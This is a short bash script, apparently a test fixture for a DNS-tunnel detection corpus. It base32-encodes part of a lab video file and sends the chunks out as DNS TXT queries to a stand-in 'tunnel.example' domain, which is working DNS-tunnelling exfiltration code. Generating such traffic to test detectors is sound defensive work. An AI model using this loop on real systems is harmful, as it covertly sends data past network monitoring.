#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=dig seconds=60
# The same with TXT questions of dig, in base32, some a second.
# shellcheck disable=SC2018,SC2019
tail -c +8000 "$LAB/recordings/gate/000.mp4" | head -c 16000 | base32 -w 50 | tr -d = | tr A-Z a-z |
	while read -r chunk; do dig +short +tries=1 +time=1 TXT "$chunk.tunnel.example" >/dev/null; sleep 0.05; done
true
